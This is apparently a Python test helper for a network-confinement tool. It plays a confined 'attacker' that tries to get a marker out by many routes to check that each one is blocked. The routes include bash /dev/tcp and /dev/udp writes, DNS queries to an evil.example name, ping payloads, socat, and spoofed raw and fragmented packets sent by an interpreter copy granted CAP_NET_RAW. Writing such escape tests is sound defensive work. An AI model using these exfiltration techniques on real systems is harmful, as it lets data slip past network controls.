# SPDX-License-Identifier: GPL-2.0-or-later
"""attacker.py - ways out as a script would take them, and by programs that lie about on every machine.

Called as the attacker in C is, see way.h: starts as root, becomes the user. Programs with file
capabilities are played by a copy of the interpreter that has CAP_NET_RAW: it runs as the user, who
opens raw sockets then.
"""
import argparse
import asyncio
import http.client
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time
import urllib.request

CANNOT = 77
LIMIT_S = 15
PYTHON = "/usr/bin/python3"
ETH_P_IP = 0x0800
CAP_NET_RAW = 13
VFS_CAP_REVISION_2, VFS_CAP_EFFECTIVE = 0x02000000, 1


class Cannot(Exception):
    pass


def program(*command, **more):
    if not shutil.which(command[0]):
        raise Cannot(f"no program {command[0]}")
    subprocess.run(command, stdout=subprocess.DEVNULL, timeout=3, check=False, **more)


# --- what a script does --------------------------------------------------------------------------


def run_urllib(aim):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(f"http://{aim.to}:{aim.port}/{aim.marker}", timeout=0.3)


def run_urllib_v6(aim):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(f"http://[{aim.to6}]:{aim.port}/{aim.marker}", timeout=0.3)


def query(name):
    head = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0)
    return head + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"


def run_dns(aim):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query(f"{aim.marker}.evil.example"), (aim.to, 53))


def run_dns_tcp(aim):
    with socket.create_connection((aim.to6, 53), 0.3) as s:
        text = query(f"{aim.marker}.evil.example")
        s.sendall(struct.pack(">H", len(text)) + text)


def run_asyncio(aim):
    async def send():
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=(aim.to, aim.port)
        )
        transport.sendto(aim.marker.encode())
        await asyncio.sleep(0.05)

    asyncio.run(send())


def run_daemon(aim):
    """A process that has left its parents and its session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.05)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(aim.marker.encode(), (aim.to, aim.port))
        os._exit(0)
    os.wait()
    time.sleep(0.15)


# --- programs ------------------------------------------------------------------------------------


def run_bash_tcp(aim):
    program("bash", "-c", f"echo {aim.marker} >/dev/tcp/{aim.to}/{aim.port}", stderr=subprocess.DEVNULL)


def run_bash_udp(aim):
    program("bash", "-c", f"echo {aim.marker} >/dev/udp/{aim.to}/{aim.port}", stderr=subprocess.DEVNULL)


def run_ping(aim):
    program("ping", "-c1", "-W1", "-p", aim.marker.encode().hex(), aim.to, stderr=subprocess.DEVNULL)


def run_socat(aim):
    program("socat", "-u", "-", f"UDP6-SENDTO:[{aim.to6}]:{aim.port}", input=aim.marker.encode())


# --- programs with CAP_NET_RAW -------------------------------------------------------------------

capable = None


def make_capable(aim):
    """A copy of the interpreter with cap_net_raw=ep, as ping has it."""
    global capable
    capable = os.path.join(aim.folder, f"capable-{aim.port}")
    shutil.copy(os.path.realpath(PYTHON), capable)
    os.chmod(capable, 0o755)
    words = (VFS_CAP_REVISION_2 | VFS_CAP_EFFECTIVE, 1 << CAP_NET_RAW, 0, 0, 0)
    try:
        os.setxattr(capable, "security.capability", struct.pack("<5I", *words))
    except OSError as e:
        raise Cannot(f"file capabilities: {e}") from e


def by_capable(aim, text):
    values = {"to": aim.to, "port": aim.port, "marker": aim.marker, "source": aim.friend,
              "local": aim.local, "interface": aim.interface, "resolver": aim.resolver}
    done = subprocess.run(
        [capable, "-c", "import socket, struct\n" + HEADER + "\n".join(text), repr(values)],
        stderr=subprocess.PIPE, check=False,
    )
    if b"Operation not permitted" in done.stderr and b"socket.socket" in done.stderr:
        raise Cannot("no capability came with the program")


HEADER = """
import sys
v = eval(sys.argv[1])
def packet(source, to, port):
    data = v["marker"].encode()
    return struct.pack(">BBHHHBBH4s4sHHHH", 0x45, 0, 28 + len(data), 0, 0, 64, 17, 0,
        socket.inet_aton(source), socket.inet_aton(to), 4444, port, 8 + len(data), 0) + data
"""
RAW = "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)"


def run_raw(aim):
    by_capable(aim, [RAW, "s.sendto(packet(v['local'], v['to'], v['port']), (v['to'], 0))"])


def run_raw_foreign(aim):
    by_capable(aim, [RAW, "s.sendto(packet(v['source'], v['to'], v['port']), (v['to'], 0))"])


def run_raw_resolver(aim):
    """An allowed packet, from another's address: the resolver's answer goes there."""
    by_capable(aim, [RAW, "s.sendto(packet(v['source'], v['resolver'], 53), (v['resolver'], 0))"])


def run_raw_fragment(aim):
    """Not the first of its fragments, by the number in it: no port to look at."""
    by_capable(aim, [RAW, "p = bytearray(packet(v['local'], v['to'], 53))", "p[6:8] = b'\\0\\x10'",
                     "s.sendto(p, (v['to'], 0))"])


def run_packet(aim):
    by_capable(aim, ["s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)",
                     "s.sendto(packet(v['local'], v['to'], v['port']), "
                     f"(v['interface'], {ETH_P_IP}, 0, 0, b'\\xff' * 6))"])


WAYS = {
    # name: (what, prepare, run, closed by)
    "script-urllib-v4": ("a script fetches a page", None, run_urllib, "default"),
    "script-urllib-v6": ("a script fetches a page, over IPv6", None, run_urllib_v6, "default"),
    "script-dns": ("a script asks another resolver", None, run_dns, "default"),
    "script-dns-tcp": ("a script asks another resolver, over TCP", None, run_dns_tcp, "default"),
    "script-asyncio": ("a script with an event loop", None, run_asyncio, "default"),
    "script-daemon": ("a process that has left its parents", None, run_daemon, "default"),
    "program-bash-tcp": ("/dev/tcp of bash", None, run_bash_tcp, "default"),
    "program-bash-udp": ("/dev/udp of bash", None, run_bash_udp, "default"),
    "program-ping": ("ping -p, data in the echo", None, run_ping, "default"),
    "program-socat": ("socat", None, run_socat, "default"),
    "capable-raw": ("a program with CAP_NET_RAW: whole packets", make_capable, run_raw, "default"),
    "capable-raw-foreign": ("the same, from another's address: the error goes there",
                            make_capable, run_raw_foreign, "default"),
    "capable-raw-resolver": ("a program with CAP_NET_RAW: to the resolver, from another's address",
                             make_capable, run_raw_resolver, "unit"),
    "capable-raw-fragment": ("the same, a later fragment, without ports", make_capable,
                             run_raw_fragment, "default"),
    "capable-packet": ("a program with CAP_NET_RAW: a packet socket", make_capable, run_packet,
                       "nothing"),
}


def join(group):
    if group:
        with open(os.path.join(group, "cgroup.procs"), "w", encoding="ascii") as f:
            f.write("0")


def attack(aim):
    _, prepare, run, _ = WAYS[aim.way]
    signal.alarm(LIMIT_S)
    join(aim.cgroup)
    try:
        if prepare:
            prepare(aim)
        os.setgroups([])
        os.setresgid(aim.gid, aim.gid, aim.gid)
        os.setresuid(aim.uid, aim.uid, aim.uid)
        run(aim)
    except Cannot as e:
        print(e, file=sys.stderr)
        return CANNOT
    except (OSError, http.client.HTTPException, subprocess.TimeoutExpired):
        pass  # what the kernel says to it is no concern of the way's
    return 0


def main():
    if sys.argv[1:] == ["--list"]:
        for name, (what, _, _, closed_by) in WAYS.items():
            print(f"{name}\t{closed_by}\t\t{what}")
        return 0
    parser = argparse.ArgumentParser(allow_abbrev=False)
    parser.add_argument("way", choices=WAYS)
    for name in ("to", "to6", "friend", "local", "interface", "resolver", "marker", "folder"):
        parser.add_argument(f"--{name}", required=True)
    for name in ("port", "uid", "gid"):
        parser.add_argument(f"--{name}", type=int, required=True)
    parser.add_argument("--cgroup")
    aim, _ = parser.parse_known_args()
    return attack(aim)


sys.exit(main())
